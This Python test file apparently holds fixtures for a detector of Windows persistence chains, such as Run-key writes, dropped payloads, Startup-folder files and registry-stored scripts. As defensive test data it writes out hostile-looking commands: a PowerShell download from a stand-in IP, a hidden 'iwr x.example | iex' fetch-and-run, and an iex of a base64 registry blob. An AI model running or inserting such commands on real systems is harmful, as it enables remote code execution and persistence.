"""Chains with what must come out of them, by host and value name."""

from __future__ import annotations

import base64
from dataclasses import dataclass, field

from chain_events import (
    CMD,
    DROPPER,
    EVIL,
    EXPLORER,
    HASHES,
    HOST,
    REG,
    RUN,
    RUN_OF_ALL,
    RUN_ONCE,
    SHA256,
    SHELL_FOLDERS,
    SID,
    Record,
    dropped,
    set_value,
    started,
)  # fmt: skip

BY_SAME = "+35 The payload was dropped shortly before by the same process"
BY_OTHER = "+25 The payload was dropped shortly before"
INSTALLED = "+10 The payload was installed shortly before"
OVERWRITTEN = "+35 The file of a known entry was overwritten by another program"
RAN = "+10 The payload ran"
FIRED = "+20 Fired: the logon started the payload"
SECOND = "+25 The same process made a second persistence within five minutes"
STORED = "+25 The payload that it reads from the registry was written on this host"
MOVED = "+40 A file was dropped into the folder that is now the Startup folder"
FROM_WORD = "+25 The writer was started from winword.exe"
BY_CCM = "-15 The writer was started by ccmexec.exe, a deployment agent, which intruders use as well"

REGISTERED = ["registered"]
TO_REGISTERED = ["dropped", "registered"]
ALL_STAGES = ["dropped", "registered", "executed", "fired"]

CCM = r"C:\Windows\CCM\CcmExec.exe"
WORD = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
CURL = r"C:\Windows\System32\curl.exe"
WSCRIPT = r"C:\Windows\System32\wscript.exe"
RUNDLL32 = r"C:\Windows\System32\rundll32.exe"
POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
PWSH = r"C:\Program Files\PowerShell\7\pwsh.exe"
FETCH = r"-c iwr http://203.0.113.9/s -o C:\Users\anna\s"
SCRIPT = r"C:\Users\anna\AppData\Local\Temp\start up.vbs"
LIBRARY = r"C:\ProgramData\helper.dll"
ONEDRIVE = r"C:\Users\anna\AppData\Local\Microsoft\OneDrive\OneDrive.exe"
ONEDRIVE_SETUP = r"C:\Users\anna\AppData\Local\Microsoft\OneDrive\25.1.1.1\FileSyncConfig.exe"
MOVED_FOLDER = r"C:\Users\Public\Start"
STORED_KEY = rf"HKU\{SID}-1001\Software\Example"
STORED_SCRIPT = base64.b64encode(("Start-Process calc.exe; " * 20).encode("utf-16-le")).decode()
STARTUP = r"C:\Users\anna\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup"


@dataclass(frozen=True)
class Expected:
    """What must come out for one finding: stages, reasons that the chain added, and fields."""

    stages: list[str]
    added: list[str] = field(default_factory=list)
    fields: dict[str, str] = field(default_factory=dict)


@dataclass(frozen=True)
class Case:
    """A chain and its label."""

    name: str
    events: list[Record]
    expected: dict[str, Expected]


def case(name: str, *events: Record, **expected: Expected) -> Case:
    """A chain on one host; findings are named by their value."""
    return Case(name, list(events), {f"{HOST}/{value}": label for value, label in expected.items()})


def expect(stages: list[str], *added: str, **fields: str) -> Expected:
    return Expected(stages, list(added), {f"rk_chain_{name}": value for name, value in fields.items()})


WRITER = started("10:00:00", DROPPER, "setup.exe /quiet", process="d", pid="100", parent=EXPLORER, parent_process="e")
LOGON = started("10:30:00", EVIL, process="f", pid="300", parent=EXPLORER, hashes=HASHES)
FIRED_ONLY = expect(["registered", "executed", "fired"], FIRED)

CASES = [
    # Every stage, and its absence
    case(
        "all stages",
        WRITER, dropped("10:01:00", process="d", pid="100"), set_value("10:02:00"), LOGON,
        Updater=expect(
            ALL_STAGES, BY_SAME, FIRED,
            drop_time="2026-11-21 10:01:00.000", drop_image=DROPPER, writer_command="setup.exe /quiet", writer_parent=EXPLORER,
            exec_time="2026-11-21 10:30:00.000", exec_image=EVIL, exec_parent=EXPLORER, hash=SHA256,
        ),
    ),
    case("a write alone", set_value("10:02:00"), Updater=expect(REGISTERED, drop_time="", writer_command="", exec_time="", hash="")),
    case("writer only", WRITER, set_value("10:02:00"), Updater=expect(REGISTERED, writer_command="setup.exe /quiet")),
    case("drop only", dropped("10:01:00", by=CURL, process="c"), set_value("10:02:00"), Updater=expect(TO_REGISTERED, BY_OTHER, drop_image=CURL)),
    case("run only", set_value("10:02:00"), started("10:30:00", EVIL, process="f"), Updater=expect(["registered", "executed"], RAN, exec_parent=CMD)),
    case("fired without a drop", set_value("10:02:00"), LOGON, Updater=expect(["registered", "executed", "fired"], FIRED)),
    case(
        "fired by userinit", set_value("10:02:00"),
        started("10:30:00", EVIL, process="f", parent=r"C:\Windows\System32\userinit.exe"),
        Updater=expect(["registered", "executed", "fired"], FIRED),
    ),
    case(
        "fired by runonce, key RunOnce", set_value("10:02:00", key=RUN_ONCE),
        started("10:30:00", EVIL, process="f", parent=r"C:\Windows\SysWOW64\runonce.exe"),
        Updater=expect(["registered", "executed", "fired"], FIRED),
    ),
    case(
        "run by hand first, by the logon later", set_value("10:02:00"), started("10:03:00", EVIL, process="b"), LOGON,
        Updater=expect(["registered", "executed", "fired"], FIRED, exec_time="2026-11-21 10:30:00.000"),
    ),
    case("run before the write", started("10:01:00", EVIL, process="f"), set_value("10:02:00"), Updater=expect(REGISTERED)),
    # Windows
    case("drop half an hour before", dropped("09:32:00", process="c"), set_value("10:02:00"), Updater=expect(TO_REGISTERED, BY_OTHER)),
    case("drop longer ago", dropped("09:31:59", process="c"), set_value("10:02:00"), Updater=expect(REGISTERED)),
    case("drop after the write", dropped("10:02:02", process="c"), set_value("10:02:00"), Updater=expect(REGISTERED)),
    case("run a day later", set_value("10:02:00"), started("2026-11-22 10:02:00", EVIL, process="f"), Updater=expect(["registered", "executed"], RAN)),
    case("run more than a day later", set_value("10:02:00"), started("2026-11-22 10:02:01", EVIL, process="f"), Updater=expect(REGISTERED)),
    case(
        "run on the next day, times around midnight UTC", set_value("2026-11-21 23:59:59.900"),
        started("2026-11-22 00:00:00.100", EVIL, process="f"), Updater=expect(["registered", "executed"], RAN),
    ),
    case(
        "times in the other spelling", dropped("2026-11-21T10:01:00.000Z", process="c"), set_value("2026-11-21T10:02:00.1234567Z"),
        Updater=expect(TO_REGISTERED, BY_OTHER, drop_time="2026-11-21 10:01:00.000"),
    ),
    case("a write without a time", WRITER, dropped("10:01:00"), set_value(""), LOGON, Updater=expect(REGISTERED, writer_command="setup.exe /quiet")),
    case("two drops, the same process counts", dropped("10:00:30", process="d"), dropped("10:01:30", by=CURL, process="c"), set_value("10:02:00"),
         Updater=expect(TO_REGISTERED, BY_SAME, drop_time="2026-11-21 10:00:30.000")),
    case("two drops, the latest counts", dropped("10:00:30", process="b"), dropped("10:01:30", by=CURL, process="c"), set_value("10:02:00"),
         Updater=expect(TO_REGISTERED, BY_OTHER, drop_time="2026-11-21 10:01:30.000")),
    case("two drops at the same time", dropped("10:01:00", by=CURL, process="c"), dropped("10:01:00", by=CMD, process="b"), set_value("10:02:00"),
         Updater=expect(TO_REGISTERED, BY_OTHER, drop_image=CURL)),
    # Who wrote
    case(
        "writer by process id", started("10:00:00", DROPPER, "setup.exe /quiet", pid="100"), set_value("10:02:00", process=""),
        Updater=expect(REGISTERED, writer_command="setup.exe /quiet"),
    ),
    case(
        "process id reused before: the last start counts",
        started("10:00:00", DROPPER, "first", pid="100"), started("10:01:00", DROPPER, "second", pid="100"),
        started("10:10:00", DROPPER, "third", pid="100"), set_value("10:02:00", process=""),
        Updater=expect(REGISTERED, writer_command="second"),
    ),
    case(
        "process id reused by another program", started("09:00:00", DROPPER, "first", pid="100"),
        started("10:00:00", CURL, "second", pid="100"), set_value("10:02:00", process=""),
        Updater=expect(REGISTERED, writer_command=""),
    ),
    case("process id reused, another GUID", started("10:00:00", DROPPER, process="9", pid="100"), set_value("10:02:00"), Updater=expect(REGISTERED, writer_command="")),
    case(
        "GUID in another case and without braces", {**WRITER, "ProcessGuid": "DDDDDDDD-0000-0000-0000-DDDDDDDDDDDD"}, set_value("10:02:00"),
        Updater=expect(REGISTERED, writer_command="setup.exe /quiet"),
    ),
    case(
        "clocks crosswise: the writer's start is stamped after its write", started("10:02:00", DROPPER, "setup.exe", process="d", pid="100"),
        set_value("2026-11-21 10:01:59.990"), Updater=expect(REGISTERED, writer_command="setup.exe"),
    ),
    case(
        "reg.exe acts for the shell that dropped the payload",
        started("10:01:30", REG, rf"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Updater /d {EVIL}", process="d", pid="100", parent_process="c"),
        dropped("10:01:00", by=CMD, process="c"), set_value("10:02:00", by=REG), Updater=expect(TO_REGISTERED, BY_SAME),
    ),
    case(
        "a document two processes above the writer",
        started("10:00:00", CMD, "cmd /c dropper", process="c", parent=WORD), started("10:00:01", DROPPER, "dropper", process="d", parent_process="c"),
        set_value("10:02:00"), Updater=expect(REGISTERED, FROM_WORD),
    ),
    case(
        "a deployment agent above the writer explains it",
        started("10:00:00", CMD, "cmd /c install", process="c", parent=CCM), started("10:00:01", DROPPER, "install", process="d", parent_process="c"),
        set_value("10:02:00", r"C:\Users\anna\AppData\Roaming\Agent\agent.exe"), Updater=expect(REGISTERED, BY_CCM),
    ),
    case(
        "a deployment agent that started the writer itself",
        started("10:00:01", CMD, "cmd /c copy", process="d", parent=CCM),
        set_value("10:02:00", EVIL, key=RUN_OF_ALL, by=DROPPER), Updater=expect(REGISTERED, BY_CCM),
    ),
    case(
        "clocks crosswise, by process id", started("10:02:00", DROPPER, "setup.exe", pid="100"),
        set_value("2026-11-21 10:01:59.990", process=""), Updater=expect(REGISTERED, writer_command="setup.exe"),
    ),
    case(
        "clocks crosswise: a payload that registers itself has not run since", started("2026-11-21 10:02:00.005", EVIL, process="d", parent=EXPLORER),
        set_value("10:02:00", by=EVIL), Updater=expect(REGISTERED),
    ),
    case("clocks crosswise: the drop", dropped("2026-11-21 10:02:00.500", process="d"), set_value("10:02:00"), Updater=expect(TO_REGISTERED, BY_SAME)),
    # Hosts and users
    Case(
        "two hosts with the same process id",
        [
            started("10:00:00", DROPPER, "on ws1", pid="100"), started("10:01:00", DROPPER, "on ws2", pid="100", host="WS2"),
            set_value("10:02:00", process=""), set_value("10:02:00", process="", host="WS2"),
        ],
        {f"{HOST}/Updater": expect(REGISTERED, writer_command="on ws1"), "WS2/Updater": expect(REGISTERED, writer_command="on ws2")},
    ),
    Case(
        "the same payload on two hosts, dropped on one and run on the other",
        [
            dropped("10:01:00", process="d"), set_value("10:02:00"), set_value("10:02:00", host="WS2"),
            started("10:30:00", EVIL, process="f", parent=EXPLORER, host="WS2"),
        ],
        {f"{HOST}/Updater": expect(TO_REGISTERED, BY_SAME), "WS2/Updater": expect(["registered", "executed", "fired"], FIRED)},
    ),
    case("the host in another case", {**dropped("10:01:00", process="d"), "Computer": HOST.upper()}, set_value("10:02:00"), Updater=expect(TO_REGISTERED, BY_SAME)),
    case(
        "two users, each with the same value",
        set_value("10:02:00", r"%APPDATA%\evil.exe", name="Anna", process="1"),
        set_value("10:02:00", r"%APPDATA%\evil.exe", name="Ben", process="2", key=RUN.replace("1001", "1002"), user=r"WS1\ben"),
        started("10:30:00", r"C:\Users\ben\AppData\Roaming\evil.exe", process="f", parent=EXPLORER, user=r"WS1\ben"),
        dropped("10:01:00", r"C:\Users\anna.EXAMPLE\AppData\Roaming\evil.exe", process="1"),
        Anna=expect(TO_REGISTERED, BY_SAME), Ben=expect(["registered", "executed", "fired"], FIRED),
    ),
    case(
        "another user's file of the same name", set_value("10:02:00"), dropped("10:01:00", EVIL.replace("anna", "ben"), process="d"),
        started("10:30:00", EVIL.replace("anna", "ben"), process="f", parent=EXPLORER), Updater=expect(REGISTERED),
    ),
    case(
        "a variable in a value for all users fits whoever logs on", set_value("10:02:00", r"%LOCALAPPDATA%\evil.exe", key=RUN_OF_ALL),
        started("10:30:00", r"C:\Users\carl\AppData\Local\evil.exe", process="f", parent=EXPLORER),
        Updater=expect(["registered", "executed", "fired"], FIRED),
    ),
    # Spellings of the payload
    case("another case, slashes and dots", dropped("10:01:00", r"c:\users\ANNA\appdata\local\..\roaming\EVIL.EXE", process="d"), set_value("10:02:00", "C:/Users/anna/AppData/Roaming/evil.exe"), Updater=expect(TO_REGISTERED, BY_SAME)),
    case("short names", dropped("10:01:00", r"C:\Users\anna\AppData\Roaming\evilprogram.exe", process="d"), set_value("10:02:00", r"C:\Users\anna\AppData\Roaming\EVILPR~1.EXE"), Updater=expect(TO_REGISTERED, BY_SAME)),
    case("a short name in the drop", dropped("10:01:00", r"C:\Users\ANNABE~1\AppData\Local\Temp\evil.exe", process="d"), set_value("10:02:00", r"C:\Users\annabelle\AppData\Local\Temp\evil.exe", user=r"WS1\annabelle"), Updater=expect(TO_REGISTERED, BY_SAME)),
    case("a device path", dropped("10:01:00", process="d"), set_value("10:02:00", "\\\\?\\" + EVIL), Updater=expect(TO_REGISTERED, BY_SAME)),
    case("payload on UNC", set_value("10:02:00", r"\\srv\share\evil.exe"), started("10:30:00", r"\\SRV\share\evil.exe", process="f", parent=EXPLORER), Updater=expect(["registered", "executed", "fired"], FIRED)),
    case(
        "script by command line, with blanks in its name", dropped("10:01:00", SCRIPT, process="d"), set_value("10:02:00", f'wscript.exe //B "{SCRIPT}"'),
        started("10:30:00", WSCRIPT, f'"{WSCRIPT}" //B "{SCRIPT}"', process="f", parent=EXPLORER, hashes=HASHES),
        Updater=expect(ALL_STAGES, BY_SAME, FIRED, exec_image=WSCRIPT, hash=""),
    ),
    case(
        "script inside cmd and start", set_value("10:02:00", f'cmd /c start "" wscript "{SCRIPT}"'), started("10:30:00", WSCRIPT, f'wscript  "{SCRIPT}"', process="f"),
        Updater=expect(["registered", "executed"], RAN),
    ),
    case(
        "DLL by rundll32", dropped("10:01:00", LIBRARY, process="d"), set_value("10:02:00", f"rundll32.exe {LIBRARY},Start"),
        started("10:30:00", RUNDLL32, f'"{RUNDLL32}" {LIBRARY},Start', process="f", parent=EXPLORER), Updater=expect(ALL_STAGES, BY_SAME, FIRED),
    ),
    case(
        "another DLL by rundll32", set_value("10:02:00", f"rundll32.exe {LIBRARY},Start"),
        started("10:30:00", RUNDLL32, "rundll32.exe shell32.dll,Control_RunDLL", process="f", parent=EXPLORER), Updater=expect(REGISTERED),
    ),
    case(
        "an inline script by its whole command", set_value("10:02:00", 'powershell -w hidden -c "iwr x.example | iex"'),
        started("10:30:00", POWERSHELL, 'powershell  -w hidden -c "iwr x.example | iex"', process="f", parent=EXPLORER), Updater=expect(["registered", "executed", "fired"], FIRED),
    ),
    case(
        "commands that name the script without running it", set_value("10:02:00", f'wscript "{SCRIPT}"'),
        started("10:03:00", r"C:\Windows\System32\attrib.exe", f'attrib +h "{SCRIPT}"', process="1"),
        started("10:04:00", r"C:\Windows\System32\notepad.exe", f'notepad "{SCRIPT}"', process="2"),
        started("10:05:00", r"C:\Windows\System32\schtasks.exe", f'schtasks /create /tn x /tr "{SCRIPT}"', process="3"),
        started("10:06:00", CMD, rf'cmd /c reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /d "wscript {SCRIPT}"', process="4"),
        Updater=expect(REGISTERED),
    ),
    case(
        "a script that writes the value again", set_value("10:02:00", r"wscript C:\ProgramData\a.vbs"),
        started("10:03:00", POWERSHELL, r"powershell -c Set-ItemProperty HKCU:\Software\Microsoft\Windows\CurrentVersion\Run Updater 'wscript C:\ProgramData\a.vbs'", process="1"),
        Updater=expect(REGISTERED),
    ),
    # Commands that name their program without a folder
    *(
        case(name, set_value("10:02:00", data), started("10:30:00", image, run, process="f", parent=EXPLORER), Updater=label)
        for name, data, image, run, label in (
            ("a program named without a folder", "powershell.exe -enc SQBFAFgA", POWERSHELL, f'"{POWERSHELL}" -enc SQBFAFgA', FIRED_ONLY),
            ("a program named without folder and extension", "powershell -enc SQBFAFgA", POWERSHELL, f'"{POWERSHELL}" -enc  SQBFAFgA', FIRED_ONLY),
            ("the same program with other arguments", "powershell.exe -enc SQBFAFgA", POWERSHELL, f'"{POWERSHELL}" -enc ZABpAHIA', expect(REGISTERED)),
            ("another program with the same arguments", "powershell.exe -enc SQBFAFgA", PWSH, f'"{PWSH}" -enc SQBFAFgA', expect(REGISTERED)),
            ("a program without arguments", 'powershell.exe ""', POWERSHELL, f'"{POWERSHELL}"', expect(REGISTERED)),
            ("a run that names no folder, by its image", f"{POWERSHELL} -enc SQBFAFgA", POWERSHELL, "powershell -enc SQBFAFgA", FIRED_ONLY),
            ("a run that names no folder, of another file", f"{POWERSHELL} {FETCH}", r"C:\Temp\powershell.exe", f"powershell {FETCH}", expect(REGISTERED)),
            ("a user's file as argument", f"powershell {FETCH}", POWERSHELL, rf"C:\Users\ben\powershell.exe {FETCH}", FIRED_ONLY),
            ("another user's file as argument", f"powershell {FETCH}", POWERSHELL, rf"C:\Users\anna\powershell.exe {FETCH.replace('anna', 'ben')}", expect(REGISTERED)),
        )
    ),
    # A file in the Startup folder
    case(
        "a script in the Startup folder, started by the logon", dropped("10:01:00", STARTUP + r"\evil.vbs", process="d"),
        started("10:30:00", WSCRIPT, rf'"{WSCRIPT}" "{STARTUP}\evil.vbs"', process="f", parent=EXPLORER),
        **{"evil.vbs": expect(ALL_STAGES, FIRED, exec_image=WSCRIPT)},
    ),
    case(
        "a script in the Startup folder that is only hidden and deleted", dropped("10:01:00", STARTUP + r"\evil.vbs", process="d"),
        started("10:03:00", r"C:\Windows\System32\attrib.exe", rf'attrib +h "{STARTUP}\evil.vbs"', process="1"),
        started("10:04:00", CMD, rf'cmd /c del "{STARTUP}\evil.vbs"', process="2"),
        **{"evil.vbs": expect(TO_REGISTERED)},
    ),
    case("one of Windows' own programs", set_value("10:02:00", r"C:\Windows\System32\cmd.exe"), started("10:30:00", CMD, process="f", parent=EXPLORER), Updater=expect(REGISTERED)),
    case(
        "one of Windows' own programs, replaced", dropped("10:01:00", r"C:\Windows\System32\osk.exe", process="d"), set_value("10:02:00", r"C:\Windows\System32\osk.exe"),
        started("10:30:00", r"C:\Windows\System32\osk.exe", process="f", parent=EXPLORER), Updater=expect(ALL_STAGES, BY_SAME, FIRED),
    ),
    case(
        "installed in Program Files", dropped("10:01:00", r"C:\Program Files\New\new.exe", process="d"), set_value("10:02:00", r"C:\Program Files\New\new.exe"),
        Updater=expect(TO_REGISTERED, INSTALLED),
    ),
    # Known good
    case(
        "a known product by its own installer", dropped("10:01:00", ONEDRIVE, by=ONEDRIVE_SETUP, process="d"),
        set_value("10:02:00", f'"{ONEDRIVE}" /background', name="OneDrive", by=ONEDRIVE_SETUP), started("10:30:00", ONEDRIVE, process="f", parent=EXPLORER),
        OneDrive=expect(ALL_STAGES),
    ),
    case(
        "a known product's file overwritten", set_value("10:02:00", f'"{ONEDRIVE}" /background', name="OneDrive", by=ONEDRIVE_SETUP),
        dropped("11:00:00", ONEDRIVE, by=CURL, process="c"), started("12:00:00", ONEDRIVE, process="f", parent=EXPLORER),
        OneDrive=expect(ALL_STAGES, OVERWRITTEN, FIRED, drop_image=CURL),
    ),
    *(
        case(
            f"a known product's file written by {by}", set_value("10:02:00", f'"{ONEDRIVE}" /background', name="OneDrive", by=ONEDRIVE_SETUP),
            dropped("11:00:00", ONEDRIVE, by=by, process="c"), OneDrive=expect(TO_REGISTERED, *summands, drop_image=by),
        )
        for by, summands in {
            r"C:\Windows\System32\msiexec.exe": [],
            r"C:\Users\anna\Downloads\msiexec.exe": [OVERWRITTEN],
            r"C:\Users\anna\AppData\Local\Microsoft\OneDrive\Update\OneDriveSetup.exe": [],
            r"C:\Users\anna\Downloads\OneDriveSetup.exe": [OVERWRITTEN],
            r"C:\Users\anna\AppData\Local\Microsoft\Other\x.exe": [OVERWRITTEN],
        }.items()
    ),
    # A second persistence
    case(
        "two values", set_value("10:02:00"), set_value("10:06:59", key=RUN_ONCE, name="Second"),
        Updater=expect(REGISTERED, SECOND), Second=expect(REGISTERED, SECOND),
    ),
    case("two values, too far apart", set_value("10:02:00"), set_value("10:07:01", key=RUN_ONCE, name="Second"), Updater=expect(REGISTERED), Second=expect(REGISTERED)),
    case("two values by two processes", set_value("10:02:00"), set_value("10:03:00", key=RUN_ONCE, name="Second", process="9"), Updater=expect(REGISTERED), Second=expect(REGISTERED)),
    case("the same value twice", set_value("10:02:00"), set_value("10:02:01"), Updater=expect(REGISTERED)),
    Case(
        "a value and a file in the Startup folder",
        [set_value("10:02:00"), dropped("10:03:00", STARTUP + r"\evil.lnk", process="d")],
        {f"{HOST}/Updater": expect(REGISTERED, SECOND), f"{HOST}/evil.lnk": expect(TO_REGISTERED, SECOND, drop_time="2026-11-21 10:03:00.000")},
    ),
    case(
        "a value and a task", set_value("10:02:00"),
        started("10:03:00", r"C:\Windows\System32\schtasks.exe", "schtasks /Create /tn x /tr y", parent=DROPPER, parent_process="d", process="b"),
        Updater=expect(REGISTERED, SECOND),
    ),
    case(
        "a value and a service, by process id", set_value("10:02:00", process=""),
        started("10:03:00", r"C:\Windows\System32\sc.exe", "sc create x binPath= y", parent=DROPPER, parent_pid="100", pid="55"),
        Updater=expect(REGISTERED, SECOND),
    ),
    case(
        "a task is only asked for", set_value("10:02:00"),
        started("10:03:00", r"C:\Windows\System32\schtasks.exe", "schtasks /query", parent=DROPPER, parent_process="d", process="b"),
        Updater=expect(REGISTERED),
    ),
    # A payload in the registry
    case(
        "payload in the registry, by the same process", set_value("10:01:00", STORED_SCRIPT, key=STORED_KEY, name="Blob"),
        set_value("10:02:00", r"powershell -c $x=((gp HKCU:Software\Example Blob).Blob);iex $x"),
        Updater=expect(REGISTERED, STORED), Blob=expect([]),
    ),
    case(
        "payload in the registry, by another process", set_value("10:01:00", STORED_SCRIPT, key=STORED_KEY, name="Blob", process="9"),
        set_value("10:02:00", r"powershell -c $x=((gp HKCU:\Software\Example).Blob);iex $x"), Updater=expect(REGISTERED, STORED), Blob=expect([]),
    ),
    case(
        "another value in the registry", set_value("10:01:00", STORED_SCRIPT, key=STORED_KEY, name="Blob", process="9"),
        set_value("10:02:00", r"powershell -c $x=((gp HKCU:Software\Other Blob).Blob);iex $x"), Updater=expect(REGISTERED), Blob=expect([]),
    ),
    # A moved Startup folder
    case(
        "a moved Startup folder, a file dropped there, and run", set_value("10:02:00", MOVED_FOLDER, key=SHELL_FOLDERS, name="Startup"),
        dropped("10:05:00", MOVED_FOLDER + r"\evil.exe", process="c"), started("10:30:00", MOVED_FOLDER + r"\evil.exe", process="f", parent=EXPLORER),
        Startup=expect(ALL_STAGES, MOVED, FIRED, drop_time="2026-11-21 10:05:00.000"),
    ),
    case(
        "a moved Startup folder, and a file in another", set_value("10:02:00", MOVED_FOLDER, key=SHELL_FOLDERS, name="Startup"),
        dropped("10:05:00", MOVED_FOLDER + r"\below\evil.exe", process="c"), Startup=expect(REGISTERED),
    ),
    Case(
        "the Startup folder named as it always was, and a file in it",
        [set_value("10:02:00", STARTUP, key=SHELL_FOLDERS, name="Startup"), dropped("10:05:00", STARTUP + r"\evil.exe", process="c")],
        {f"{HOST}/Startup": expect(REGISTERED), f"{HOST}/evil.exe": expect(TO_REGISTERED)},
    ),
    # Other sources
    case(
        "Security 4688 and 4657",
        {"EventCode": "4688", "_time": "1795255200", "Computer": HOST, "NewProcessName": DROPPER, "NewProcessId": "0x64", "CommandLine": "setup.exe"},
        {"EventCode": "4657", "_time": "1795255260.5", "Computer": HOST, "ObjectName": RUN.replace("HKU", r"\REGISTRY\USER"), "ObjectValueName": "Updater",
         "NewValue": EVIL, "ProcessName": DROPPER, "ProcessId": "0x64"},
        Updater=expect(REGISTERED, writer_command="setup.exe"),
    ),
    case("a deleted value", WRITER, {**set_value("10:02:00", "", kind="DeleteValue"), "EventCode": "12"}, LOGON, Updater=expect([], writer_command="setup.exe /quiet")),
]  # fmt: skip
